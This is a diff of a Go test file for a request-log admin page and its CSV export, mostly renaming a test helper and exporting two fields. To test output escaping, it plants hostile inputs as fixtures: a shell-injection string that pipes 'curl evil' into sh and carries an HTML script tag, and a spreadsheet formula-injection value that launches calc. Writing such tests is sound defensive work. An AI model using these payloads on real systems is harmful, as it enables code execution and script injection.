@@ -20,14 +20,14 @@ import (
 )
 
 // called writes a request into the log, a second after the one before.
-func (r *room) called(change func(*apilog.Entry)) apilog.Entry {
+func (r *harness) called(change func(*apilog.Entry)) apilog.Entry {
 	r.Helper()
 	at := r.DB.Now().UTC().Truncate(time.Microsecond)
 	entry := apilog.Entry{
 		UID: postgres.NewUID(at), At: at, RequestID: "req-" + uuid.NewString(), Method: "POST",
 		Route: "/api/v2/loan/:uid/request-draw",
 		Path:  "/api/v2/loan/" + r.application.String() + "/request-draw", ClientID: "dbc_1",
-		Authenticated: true, PartnerUID: r.partner, MerchantUID: r.merchant,
+		Authenticated: true, PartnerUID: r.Partner, MerchantUID: r.Merchant,
 		ApplicationUID: r.application, Status: 200, Duration: 42 * time.Millisecond, BytesIn: 10,
 		BytesOut: 900, Address: "192.0.2.7", UserAgent: "partner/1",
 	}
@@ -45,7 +45,7 @@ func (r *room) called(change func(*apilog.Entry)) apilog.Entry {
 
 func TestRequestLog(t *testing.T) {
 	t.Parallel()
-	r := newRoom(t)
+	r := newHarness(t)
 	b := r.signedIn()
 	if got := b.get(paths.Requests).text(".empty"); !strings.Contains(got, "No requests yet") {
 		t.Errorf("an empty log says %q", got)
@@ -69,8 +69,8 @@ func TestRequestLog(t *testing.T) {
 		"method=PUT":                         {refused},
 		"client=" + client.ClientID:          {failed, refused, fine},
 		"client=dbc_other":                   nil,
-		"partner=" + r.partner.String():      {failed, refused, fine},
-		"merchant=" + r.merchant.String():    {failed, refused, fine},
+		"partner=" + r.Partner.String():      {failed, refused, fine},
+		"merchant=" + r.Merchant.String():    {failed, refused, fine},
 		"application=" + fine.Path[13:49]:    {failed, fine},
 		"request=the-request":                {failed},
 		"request=+the-request+":              {failed},
@@ -109,7 +109,7 @@ func TestRequestLog(t *testing.T) {
 
 func TestRequestLogPages(t *testing.T) {
 	t.Parallel()
-	r := newRoom(t)
+	r := newHarness(t)
 	_, err := r.DB.ExecContext(t.Context(), `
 		INSERT INTO api_requests (request_uid, at, request_id, method, route, path, authenticated,
 		        status, replayed, duration_us, bytes_in, bytes_out, address, user_agent)
@@ -133,7 +133,7 @@ func TestRequestLogPages(t *testing.T) {
 
 func TestRequestPage(t *testing.T) {
 	t.Parallel()
-	r := newRoom(t)
+	r := newHarness(t)
 	b := r.signedIn()
 	const planted = `';curl evil|sh;'"><script>planted()</script>`
 	entry := r.called(func(e *apilog.Entry) {
@@ -155,7 +155,7 @@ func TestRequestPage(t *testing.T) {
 		t.Errorf("command %s", command)
 	}
 	for _, href := range []string{
-		paths.To(paths.Partner, r.partner.String()), paths.To(paths.Merchant, r.merchant.String()),
+		paths.To(paths.Partner, r.Partner.String()), paths.To(paths.Merchant, r.Merchant.String()),
 		paths.To(paths.Application, r.application.String()),
 	} {
 		if page.find("main a[href='"+href+"']").Length() == 0 {
@@ -176,7 +176,7 @@ func TestRequestPage(t *testing.T) {
 
 func TestRequestsCSV(t *testing.T) {
 	t.Parallel()
-	r := newRoom(t)
+	r := newHarness(t)
 	b := r.signedIn()
 	r.called(func(e *apilog.Entry) { e.UserAgent, e.Status = "=cmd|' /C calc'!A0", 404 })
 	r.called(nil)
